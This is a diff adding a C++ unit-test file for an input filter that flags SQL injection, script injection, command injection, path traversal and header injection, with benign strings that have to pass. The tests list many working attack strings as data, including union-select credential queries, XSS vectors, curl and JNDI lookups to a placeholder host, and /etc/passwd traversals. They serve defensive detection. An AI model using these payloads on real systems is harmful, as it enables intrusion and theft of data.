@@ -1,0 +1,157 @@
+#include "gate/inspect/field/field.h"
+
+#include <gtest/gtest.h>
+
+#include <chrono>
+#include <string>
+#include <string_view>
+
+namespace gatehouse::field {
+namespace {
+
+bool Refused(std::string_view text, Mode mode = Mode::kBalanced) { return JudgeField(text).score >= Threshold(mode); }
+Family FamilyOf(std::string_view text) { return Refused(text) ? JudgeField(text).family : Family::kNone; }
+
+TEST(FieldA12, RefusesWhatWouldBeSql) {
+  for (const std::string_view text :
+       {"1 or 1=1", "' or 'a'='a", "\" or \"1\"=\"1\" --", "1 union select name, password from users",
+        "x'; drop table users; --", "admin' --", "1) and (select 1 from dual)=1", "'||(select version())||'",
+        "1; waitfor delay '0:0:5'", "1 and sleep(5)", "' order by 7#", "1/**/union/**/select/**/2",
+        "1 UnIoN/*!50000SeLeCt*/ 2", "%27%20or%201%3D1--", "%2527%2520or%25201%253D1--", "1 having 1=1",
+        "' and extractvalue(1, concat(0x7e, version()))='", "case when 1=1 then 2 end",
+        "-1' union all select null,null#"}) {
+    EXPECT_EQ(FamilyOf(text), Family::kSql) << text << " " << JudgeField(text).score;
+  }
+}
+
+TEST(FieldA12, LetsProseAboutSqlPass) {
+  for (const std::string_view text : {"Please select an option from the list",
+                                      "Western Union: select a branch",
+                                      "rock 'n' roll",
+                                      "O'Brien",
+                                      "it's 5 o'clock and I'm late",
+                                      "the union selected a few friends",
+                                      "drop me a line",
+                                      "2 or 4 metal buttons",
+                                      "order by 5pm",
+                                      "1/4\"-1/2\" wide ribbon",
+                                      "\"wood\" and \"sign\" and \"polka dots\"",
+                                      "call me back; update the ticket",
+                                      "Create table for guests",
+                                      "select all that apply",
+                                      "AT&T, R&D and Q&A",
+                                      "C# and F#",
+                                      "70\" TV -- great picture",
+                                      "salt and pepper (1=sweet)",
+                                      "insert coin; delete nothing",
+                                      "Robert'); he said",
+                                      "where is my order?",
+                                      "Johnson & Johnson's",
+                                      "the boys' and girls' rooms"}) {
+    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
+  }
+}
+
+TEST(FieldC9A12, RefusesWhatABrowserWouldRun) {
+  for (const std::string_view text :
+       {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"",
+        "javascript:alert(1)", "<a href=\"java&#x73;cript:alert(1)\">", "<a href='&#106;avascript&colon;x()'>",
+        "<svg/onload=alert(1)>", "</script><b>", "<iframe src=//example.com>", "%3Cscript%3Ealert(1)%3C/script%3E",
+        "&lt;script&gt;alert(1)&lt;/script&gt;", "<div style=\"width:expression(alert(1))\">", "\\x3cscript\\x3e",
+        "\xEF\xBC\x9Cscript\xEF\xBC\x9E", "';alert(1)//", "<!ENTITY x SYSTEM \"file:///a\">"}) {
+    EXPECT_EQ(FamilyOf(text), Family::kMarkup) << text << " " << JudgeField(text).score;
+  }
+}
+
+TEST(FieldC9A12, LetsPlainMarkupPass) {
+  for (const std::string_view text :
+       {"<b>bold</b> and <i>italic</i>", "<a href=\"/teams/\">teams</a>", "if a < b and c > d", "I <3 you", "x <= 5",
+        "<p class=\"note\">text</p>", "mail me <anna@example.org>", "the script was prompt (and short)",
+        "JavaScript: the good parts", "on = off", "tea &amp; biscuits", "<br/>", "online = true",
+        "price: 5 < 10 (confirm by mail)"}) {
+    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
+  }
+}
+
+TEST(FieldA12, RefusesCommands) {
+  for (const std::string_view text :
+       {"; cat /etc/hosts", "| whoami", "&& ls -la", "`id`", "$(curl http://a.example/x)", "x; ping -c 3 127.0.0.1",
+        "() { :;}; echo x", "system('id');", "<!--#exec cmd=\"id\"-->", "<?php phpinfo(); ?>",
+        "${jndi:ldap://a.example/x}", "{{7*7}}", "a\n/bin/cat /tmp/x", "%0a id %0a", "& type C:\\x.txt",
+        "; c'a't /etc/hosts", "|/?i?/c?t /tmp/x", "curl${IFS}http://a.example"}) {
+    EXPECT_EQ(FamilyOf(text), Family::kCommand) << text << " " << JudgeField(text).score;
+  }
+}
+
+TEST(FieldA12, LetsProseWithSeparatorsPass) {
+  for (const std::string_view text :
+       {"salt & pepper", "milk; eggs; bread", "name; type A", "Tom & Sort Ltd.", "either | or", "a=1&id=2&sort=name",
+        "costs $(5)", "use `code` here", "echo chamber", "cat and dog", "find me; less is more", "zsh is the best!",
+        "nc 8000 controller", "first line\nType: B\nDate: today", "{\"type\": \"a\",\n \"set\": 1}",
+        "Dear {{name}},"}) {
+    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
+  }
+}
+
+TEST(FieldB8A12, RefusesPathsOutOfTheirFolder) {
+  for (const std::string_view text : {"../../etc/passwd", "..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2fetc/passwd",
+                                      "%252e%252e%252fetc", "..%c0%af..%c0%afetc", "/etc/passwd", "....//....//etc",
+                                      "file:///etc/hosts", "php://filter/convert.base64-encode/resource=index",
+                                      "a.txt%00.jpg", "..;/..;/admin", "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
+                                      "%u002e%u002e%u2215%u002e%u002e%u2215x", "/var/log/messages.log", "a/../../b"}) {
+    EXPECT_EQ(FamilyOf(text), Family::kPath) << text << " " << JudgeField(text).score;
+  }
+}
+
+TEST(FieldB8A12, LetsOrdinaryPathsPass) {
+  for (const std::string_view text : {"docs/readme.md", "/products/42", "wait... what?", "and/or", "1/2", "v1.2.3",
+                                      "a/./b", "https://example.org/a/b?c=d", "..", "photo.jpg", "À bientôt",
+                                      "see /etc/hosts on your machine, please", "%C0%20bient%F4t", "3...2...1"}) {
+    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
+  }
+}
+
+TEST(FieldA12, RefusesLinesOfHeaders) {
+  EXPECT_EQ(FamilyOf("x\r\nSet-Cookie: a=b"), Family::kHeader);
+  EXPECT_EQ(FamilyOf("x%0d%0aLocation: //example.com"), Family::kHeader);
+  EXPECT_FALSE(Refused("first line\r\nsecond line"));
+}
+
+TEST(FieldA12, LooksOnlyForWhatItIsAskedFor) {
+  EXPECT_LT(JudgeField("1 or 1=1", BitOf(Family::kMarkup)).score, kSuspect);
+  EXPECT_GE(JudgeField("1 or 1=1", BitOf(Family::kSql)).score, kRefuse);
+  EXPECT_EQ(FamilyNamed("sql"), Family::kSql);
+  EXPECT_EQ(FamilyNamed("sqll"), Family::kNone);
+}
+
+TEST(FieldA12, StrictRefusesTheSuspectToo) {
+  EXPECT_FALSE(Refused("sleep 10"));
+  EXPECT_TRUE(Refused("sleep 10", Mode::kStrict));
+}
+
+// Texts that make each byte look like the beginning of something: a megabyte takes a second at most where a quadratic
+// reader would take hours.
+TEST(FieldA12, WorkIsBoundedForEveryText) {
+  constexpr size_t kBytes = 200'000;
+  for (const std::string_view piece :
+       {"<a b=", "<",     "[",     "(((",    "&f(",           "'\"",  "@ ", "\r\n", "; ", "{",    "1+",  "select ",
+        "%2525", "&#65;", "or 1 ", "x' or ", "<a b='<c d=\"", "--\n", "/*", "`",    "..", "`id ", "<!--"}) {
+    std::string text;
+    while (text.size() < kBytes) text += piece;
+    const auto begin = std::chrono::steady_clock::now();
+    (void)JudgeField(text);
+    EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds(10)) << piece;
+  }
+}
+
+TEST(FieldA12, BytesThatAreNoTextAreJudgedLikeOthers) {
+  (void)JudgeField({});
+  std::string all;
+  for (int c = 0; c < 256; ++c) all += static_cast<char>(c);
+  EXPECT_TRUE(Refused(all));  // it holds a NUL
+  (void)JudgeField("\xFF\xFE\xED\xA0\x80\xF4\x90");
+  (void)JudgeField("&#xFFFFFFFFFFFFFFFF;%u%%");
+}
+
+}  // namespace
+}  // namespace gatehouse::field
